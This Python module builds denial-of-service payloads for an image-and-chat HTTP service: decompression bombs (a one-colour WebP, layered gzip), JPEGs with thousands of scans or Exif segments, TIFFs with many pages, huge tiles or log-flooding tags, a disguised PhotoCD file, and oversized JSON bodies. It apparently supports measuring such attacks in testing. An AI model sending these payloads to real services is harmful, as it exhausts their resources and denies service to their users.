"""Pictures and bodies that are small to send and dear to read: what each of them costs, `attacks.py` measures."""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zlib
from functools import cache
from typing import Any

from PIL import Image

QUESTION = "Is the crate on the suitcase?"


@cache
def flat_webp(side: int = 4898) -> bytes:
    """A WebP of one colour: under 100 bytes for 24 million pixels."""
    stream = io.BytesIO()
    Image.new("RGB", (side, side), (9, 9, 9)).save(stream, "WEBP", lossless=True, quality=100, method=0)
    return stream.getvalue()


def _marker(kind: int, body: bytes) -> bytes:
    return bytes((0xFF, kind)) + struct.pack(">H", len(body) + 2) + body


def many_scans(scans: int = 2000, side: int = 4096) -> bytes:
    """A progressive JPEG of one gray component, whose every scan visits every block and changes none."""
    blocks = (side // 8) ** 2
    head = (
        b"\xff\xd8"
        + _marker(0xDB, b"\0" + bytes([1] * 64))
        + _marker(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\1\x11\0")
    )
    tables = _marker(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\0") + _marker(
        0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\xe0"
    )
    first = _marker(0xDA, b"\1\1\0\0\0\0") + bytes(blocks // 8)
    runs = ("0" + "1" * 14) * (blocks // 32767 + 1)
    bits = runs + "1" * (-len(runs) % 8)
    data = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8)).replace(b"\xff", b"\xff\0")
    again = _marker(0xDA, b"\1\1\0\1\x3f\0") + data
    return head + tables + first + again * scans + b"\xff\xd9"


def many_exifs(segments: int = 400_000) -> bytes:
    """A JPEG whose head is made of Exif segments, which a reader joins one by one."""
    stream = io.BytesIO()
    Image.new("RGB", (64, 64)).save(stream, "JPEG")
    return b"\xff\xd8" + _marker(0xE1, b"Exif\0\0" + bytes(14)) * segments + stream.getvalue()[2:]


def _tiff(entries: list[tuple[int, int, int, int]], following: int) -> bytes:
    return (
        struct.pack("<H", len(entries))
        + b"".join(struct.pack("<HHII", *each) for each in entries)
        + struct.pack("<I", following)
    )


def many_frames(frames: int = 20_000) -> bytes:
    """A TIFF of many tiny pages."""
    size, out = 2 + 12 * 8 + 4, b"II*\0" + struct.pack("<I", 8)
    for number in range(frames):
        at = 8 + number * size
        following = 0 if number == frames - 1 else at + size
        entries = [
            (256, 3, 1, 2),
            (257, 3, 1, 2),
            (258, 3, 1, 8),
            (259, 3, 1, 1),
            (262, 3, 1, 1),
            (273, 4, 1, 0),
            (278, 3, 1, 2),
            (279, 4, 1, 4),
        ]
        out += _tiff(entries, following)
    return out


def vast_tile(side: int = 26_000) -> bytes:
    """A TIFF of 64 × 64 pixels whose one tile has 26,000 × 26,000."""
    data = zlib.compress(bytes(100_000))
    entries = [
        (256, 3, 1, 64),
        (257, 3, 1, 64),
        (258, 3, 1, 8),
        (259, 3, 1, 8),
        (262, 3, 1, 1),
        (277, 3, 1, 1),
        (322, 4, 1, side),
        (323, 4, 1, side),
        (324, 4, 1, 200),
        (325, 4, 1, len(data)),
    ]
    body = b"II*\0" + struct.pack("<I", 8) + _tiff(entries, 0)
    return body.ljust(200, b"\0") + data


def noisy_tags(tags: int = 60_000) -> bytes:
    """A TIFF of many damaged tags, each worth a line in a log."""
    entries = [(256, 3, 1, 64), (257, 3, 1, 64)] + [(40_000 + n % 20_000, 2, 100, 0xFFFFFF00) for n in range(tags)]
    return b"II*\0" + struct.pack("<I", 8) + _tiff(entries, 0)


def disguised() -> bytes:
    """A PhotoCD picture that begins like a WebP."""
    body = bytearray(flat_webp(8).ljust(2048, b"\0") + b"PCD_OPA" + bytes(1600))
    return bytes(body) + bytes(96 * 2048 + 768 * 512 * 3)


def wide_object(size: int = 24 << 20) -> bytes:
    """`{"0":0,"1":0,…}`, as long as a body may be."""
    parts, length, number = [], 2, 0
    while length < size - 24:
        parts.append(f'"{number}":0')
        length += len(parts[-1]) + 1
        number += 1
    return ("{" + ",".join(parts) + "}").encode()


def nested_lists(size: int = 24 << 20) -> bytes:
    return b'{"question": "' + QUESTION.encode() + b'", "image": [' + b"[]," * ((size - 200) // 3) + b"[]]}"


def audits(*pictures: bytes) -> bytes:
    import json

    listed = [{"image": base64.b64encode(each).decode(), "question": QUESTION} for each in pictures]
    return json.dumps({"audits": listed} if len(listed) > 1 else listed[0]).encode()


def chat(picture: bytes, **more: Any) -> bytes:
    import json

    url = "data:image/webp;base64," + base64.b64encode(picture).decode()
    content = [{"type": "image_url", "image_url": {"url": url}}, {"type": "text", "text": QUESTION}]
    return json.dumps({"model": "m", "messages": [{"role": "user", "content": content}]} | more).encode()


@cache
def layered(layers: int = 3, size: int = 1 << 30) -> bytes:
    """Zeros, compressed over and over. A gigabyte in a few hundred bytes."""
    stream = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = b"".join([*(stream.compress(bytes(1 << 20)) for _ in range(size >> 20)), stream.flush()])
    for _ in range(layers - 1):
        data = gzip.compress(data, 9)
    return data
